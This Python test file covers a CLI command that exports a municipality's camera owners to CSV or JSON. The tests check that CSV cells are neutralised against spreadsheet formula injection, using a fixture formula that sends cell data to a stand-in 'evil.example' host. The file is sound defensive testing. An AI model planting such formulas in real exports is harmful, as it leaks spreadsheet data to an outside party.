"""`observo owners export --municipality SLUG [--format csv|json] [--output FILE]`: a municipality's
owners with their contacts, accounts and counts; CSV cells a spreadsheet never runs; audited; errors on
stderr with exit 1 and nothing written. Both databases."""

from __future__ import annotations

import csv
import io
import json

import sqlalchemy as sa

from observo.cli import main
from observo.cli.owners import CSV_COLUMNS
from observo.models import AuditEntry
from observo.services import owner_cameras, owners
from tests import factories

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1)'


def build(session) -> dict:
    """Moncalieri sponsors a pharmacy (two cameras and one decommissioned, an open declaration and a
    cancelled one; a second account not confirmed), a bar whose owner typed formulas into its data, and
    a shop registered by the police (no account). Nichelino's owner must not appear."""
    town = factories.org(session, "moncalieri")
    pharmacy = factories.owner_account(session, town, name="Farmacia Centrale")
    second, _created = owners.register(
        session,
        town,
        owners.SignUp(
            organisation_name="ignored",
            tax_code="01234567897",
            address="Via Roma 1",
            contact_name="Luca Verdi",
            phone="011 1",
            pec="second@pec.example",
            email="second@farmacia.example",
            password=factories.PASSWORD,
        ),
    )
    second.organisation_id = pharmacy.organisation_id  # a colleague's account on the same owner
    session.flush()
    session.delete(second.organisation)  # the organisation its sign-up made, unused
    bar = factories.owner_account(session, town, name=FORMULA)
    bar.organisation.address = "+39 via Po"
    bar.organisation.contact_name = "-Mario"
    bar.organisation.contact_phone = "@SUM(1)"
    factories.org(session, "negozio-rossi", kind="private", sponsor_slug="moncalieri")
    elsewhere = factories.owner_account(session, factories.org(session, "nichelino"), name="Altrove")
    for offset in (0.0, 0.001):
        factories.camera(session, pharmacy.organisation, 7.68 + offset, 45.0)
    factories.camera(session, pharmacy.organisation, 7.69, 45.0, status="decommissioned")
    factories.camera(session, elsewhere.organisation, 7.70, 45.0)
    owner_cameras.declare(session, pharmacy, factories.declared_camera())
    cancelled = owner_cameras.declare(session, pharmacy, factories.declared_camera(name="Retro"))
    session.flush()
    owner_cameras.cancel_declaration(session, pharmacy, cancelled.id, cancelled.version)
    owner_cameras.declare(session, elsewhere, factories.declared_camera())
    session.commit()
    return {"town": town, "pharmacy": pharmacy, "second": second, "bar": bar}


def run(app, *args):
    return app.test_cli_runner().invoke(main, ["owners", "export", *args])


def test_csv_lists_the_municipalitys_owners_with_safe_cells(app, session):
    built = build(session)
    result = run(app, "--municipality", "moncalieri")
    assert result.exit_code == 0, result.stderr
    assert "3 owners of moncalieri exported" in result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert tuple(rows[0]) == CSV_COLUMNS
    by_slug = {row[0]: dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]}
    pharmacy = by_slug[built["pharmacy"].organisation.slug]
    assert pharmacy["name"] == "Farmacia Centrale" and pharmacy["tax_code"] == "01234567897"
    assert pharmacy["contact_pec"].endswith("@pec.example")
    assert pharmacy["accounts"] == f"{built['pharmacy'].email}; second@farmacia.example"
    assert pharmacy["accounts_verified"] == "yes; no"
    assert (pharmacy["approved_cameras"], pharmacy["open_declarations"]) == ("2", "1")
    shop = by_slug["negozio-rossi"]
    assert (shop["accounts"], shop["approved_cameras"], shop["open_declarations"]) == ("", "0", "0")
    bar = by_slug[built["bar"].organisation.slug]
    assert bar["name"] == "'" + FORMULA
    assert (bar["address"], bar["contact_name"], bar["contact_phone"]) == (
        "'+39 via Po",
        "'-Mario",
        "'@SUM(1)",
    )
    assert not any(slug.startswith("altrove") for slug in by_slug)
    assert [row[1] for row in rows[1:]] == sorted(row[1] for row in rows[1:])  # by name


def test_json_to_a_file(app, session, tmp_path):
    built = build(session)
    target = tmp_path / "owners.json"
    result = run(app, "--municipality", "moncalieri", "--format", "json", "--output", str(target))
    assert result.exit_code == 0, result.stderr
    assert result.stdout == ""
    body = json.loads(target.read_text(encoding="utf-8"))
    assert body["municipality"] == {"slug": "moncalieri", "name": "Moncalieri"}
    assert body["exported_at"].endswith("Z")
    owners_by_slug = {owner["slug"]: owner for owner in body["owners"]}
    assert len(owners_by_slug) == 3
    pharmacy = owners_by_slug[built["pharmacy"].organisation.slug]
    assert [(a["email"], a["verified"]) for a in pharmacy["accounts"]] == [
        (built["pharmacy"].email, True),
        ("second@farmacia.example", False),
    ]
    assert pharmacy["accounts"][1]["verified_at"] is None
    assert (pharmacy["approved_cameras"], pharmacy["open_declarations"]) == (2, 1)
    assert owners_by_slug[built["bar"].organisation.slug]["name"] == FORMULA  # JSON keeps text as it is


def test_every_export_is_audited(app, session):
    build(session)
    assert run(app, "--municipality", "moncalieri").exit_code == 0
    entry = session.scalars(sa.select(AuditEntry).where(AuditEntry.action == "owners.export")).one()
    assert entry.actor_label.startswith("cli:")
    assert entry.result_count == 3
    assert json.loads(entry.details) == {"municipality": "moncalieri", "format": "csv"}


def test_an_unknown_municipality_is_an_error_and_writes_nothing(app, session, tmp_path):
    build(session)
    target = tmp_path / "owners.csv"
    for slug in ("nowhere", "negozio-rossi"):  # missing, and not a municipality
        result = run(app, "--municipality", slug, "--output", str(target))
        assert result.exit_code == 1
        assert result.stdout == "" and "no municipality" in result.stderr
    assert not target.exists()
    assert session.scalar(sa.select(sa.func.count()).where(AuditEntry.action == "owners.export")) == 0
